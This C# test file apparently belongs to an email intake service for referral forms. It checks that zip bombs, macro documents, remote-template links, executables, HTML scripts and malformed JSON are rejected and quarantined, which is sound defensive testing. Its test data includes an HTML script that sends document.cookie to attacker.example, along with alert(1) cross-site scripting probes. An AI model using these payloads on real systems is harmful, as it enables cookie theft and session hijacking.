using System.Text;
using ReviewFunctions.Infrastructure.Intake;
using ReviewFunctions.Infrastructure.Tests.Intake.Support;
using ReviewFunctions.Infrastructure.Tests.Support;

namespace ReviewFunctions.Infrastructure.Tests.Intake;

/// <summary>
/// Messages built to overload or attack intake. Each gets its own plain answer, nothing escapes the pipeline, no
/// review starts, and the original bytes are kept in quarantine for a person to look at.
/// </summary>
[Collection(AzuriteGroup.Name)]
public sealed class HostileInputTests(AzuriteFixture azurite)
{
    public static TheoryData<string, string, string> Cases => new()
    {
        { "zip bomb named .docx", "attachments[0]", "unpacks to far more data than a form holds" },
        { "thousands of parts named .docx", "attachments[0]", "unpacks to far more data than a form holds" },
        { "macro-enabled document named .docx", "attachments[0]", "contains macros or other active content" },
        { ".docm attachment", "attachments[0]", "is a macro-enabled file" },
        { "remote template", "attachments[0]", "links to content outside the document (a template kept on another computer)" },
        { "INCLUDEPICTURE field", "attachments[0]", "links to content outside the document (the INCLUDEPICTURE field)" },
        { "password-protected or .doc", "attachments[0]", "is password-protected or saved in the older Word format" },
        { "random bytes named .docx", "attachments[0]", "is named as a Word document but is not one" },
        { "truncated docx", "attachments[0]", "is damaged and cannot be opened" },
        { "program", "attachments[1]", "is a program or script, which we never open" },
        { "html script", "body", "contains a script" },
        { "html event handler", "body", "contains an event handler that runs code" },
        { "html javascript link", "body", "contains a link that runs code" },
        { "web page attachment with a script", "attachments[1]", "is a web page containing a script" },
        { "not json", "message", "is not valid JSON" },
        { "json array", "message", "not a JSON object" },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task Each_hostile_message_gets_its_own_answer_and_is_kept(string name, string field, string answer)
    {
        var intake = new IntakeHarness(azurite);
        var json = Message(name);

        var outcome = await intake.ReceiveAsync(json);

        Assert.Equal(IntakeResult.Invalid, outcome.Result);
        Assert.Contains(outcome.Problems, p => p.Field == field && p.Message.Contains(answer, StringComparison.Ordinal));
        Assert.Empty(intake.Starter.Calls);
        var kept = await intake.Documents.GetAsync(IntakeDocuments.Quarantined(outcome.QuarantineId!), default);
        Assert.Equal(json, kept!.Content.ToArray());
        Assert.Equal(422, IntakeHttp.ToResponse(outcome).Status);
        if (field != "message")
        {
            // The reply names the part of the form and what to do; the detail stays in the HTTP answer.
            Assert.Contains(ProblemAdvice.For(field), Assert.Single(intake.Replies.Sent).Body, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task An_e_mail_over_25_MB_is_refused_by_its_size_without_opening_its_attachments()
    {
        var intake = new IntakeHarness(azurite);
        var json = Messages.Bytes(Messages.Json("<big@x.example>", attachments: [Messages.File("form.docx", HostileFiles.ZipBomb()), Messages.File("scan.pdf", HostileFiles.Random(26 * 1024 * 1024), "application/pdf")]));

        var outcome = await intake.ReceiveAsync(json);

        var problem = Assert.Single(outcome.Problems);
        Assert.Equal(("message", "This e-mail is 26.2 MB, more than the 25 MB we accept. Please send the referral form on its own, without other attachments."), (problem.Field, problem.Message));
        var kept = await intake.Documents.GetAsync(IntakeDocuments.Quarantined(outcome.QuarantineId!), default);
        Assert.Equal(json.Length, kept!.Content.Length);
        Assert.Single(intake.Replies.Sent);
    }

    [Fact]
    public async Task A_delivery_too_big_to_parse_is_kept_unopened()
    {
        var intake = new IntakeHarness(azurite, o => o with { Limits = new IntakeLimits { MaxJsonBytes = 64 * 1024 } });
        var json = Messages.Bytes(Messages.Json("<huge@x.example>", attachments: Messages.File("scan.pdf", HostileFiles.Random(100 * 1024), "application/pdf")));

        var outcome = await intake.ReceiveAsync(json);

        Assert.Equal(("message", IntakeResult.Invalid), (Assert.Single(outcome.Problems).Field, outcome.Result));
        Assert.Contains("was not opened", outcome.Problems[0].Message, StringComparison.Ordinal);
        Assert.Equal(json, (await intake.Documents.GetAsync(IntakeDocuments.Quarantined(outcome.QuarantineId!), default))!.Content.ToArray());
        Assert.Empty(intake.Replies.Sent);
    }

    [Fact]
    public void An_ordinary_hyperlink_in_the_form_is_not_an_external_link()
    {
        var docx = new FormContent().ToDocxBuilder().Part(d => d.MainDocumentPart!.AddHyperlinkRelationship(new Uri("mailto:priya.raman@westbridge.example.gov.uk"), true)).Build();

        var reading = ReferralReader.ReadWordForm(docx, "form.docx", new DateOnly(2027, 2, 8));

        Assert.Empty(reading.Problems);
    }

    private static byte[] Message(string name)
    {
        var form = new FormContent().ToDocx();
        return name switch
        {
            "zip bomb named .docx" => Attach("form.docx", HostileFiles.ZipBomb()),
            "thousands of parts named .docx" => Attach("form.docx", HostileFiles.ManyParts()),
            "macro-enabled document named .docx" => Attach("form.docx", HostileFiles.WithMacros()),
            ".docm attachment" => Attach("form.docm", HostileFiles.WithMacros(), "application/vnd.ms-word.document.macroEnabled.12"),
            "remote template" => Attach("form.docx", HostileFiles.WithRemoteTemplate()),
            "INCLUDEPICTURE field" => Attach("form.docx", HostileFiles.WithIncludePicture()),
            "password-protected or .doc" => Attach("form.docx", HostileFiles.CompoundFile()),
            "random bytes named .docx" => Attach("form.docx", HostileFiles.Random(4096)),
            "truncated docx" => Attach("form.docx", form[..(form.Length / 2)]),
            "program" => Messages.Bytes(Messages.Json("<p@x.example>", attachments: [Messages.File("form.docx", form), Messages.File("update.exe", HostileFiles.Random(1024), "application/octet-stream")])),
            "html script" => Html("<p>Referral</p><script>fetch('https://attacker.example/?c='+document.cookie)</script>"),
            "html event handler" => Html("<img src=\"x.png\" onerror=\"alert(1)\"><p>Referral</p>"),
            "html javascript link" => Html("<a href=\"javascript:alert(1)\">Open the form</a>"),
            "web page attachment with a script" => Messages.Bytes(Messages.Json("<w@x.example>", attachments: [Messages.File("form.docx", form), Messages.File("form.html", Encoding.UTF8.GetBytes("<html><script>alert(1)</script></html>"), "text/html")])),
            "not json" => Encoding.UTF8.GetBytes("From: someone\nThis is not JSON {"),
            "json array" => Encoding.UTF8.GetBytes("[1,2,3]"),
            _ => throw new ArgumentOutOfRangeException(nameof(name)),
        };
    }

    private static byte[] Attach(string name, byte[] content, string contentType = Messages.Docx) =>
        Messages.Bytes(Messages.Json($"<{Guid.NewGuid():N}@x.example>", attachments: Messages.File(name, content, contentType)));

    private static byte[] Html(string html)
    {
        var message = Messages.Json($"<{Guid.NewGuid():N}@x.example>", "<html><body>" + html + "</body></html>" + new FormContent().ToBodyText().Replace("\n", "<br>", StringComparison.Ordinal), "html");
        return Messages.Bytes(message);
    }
}
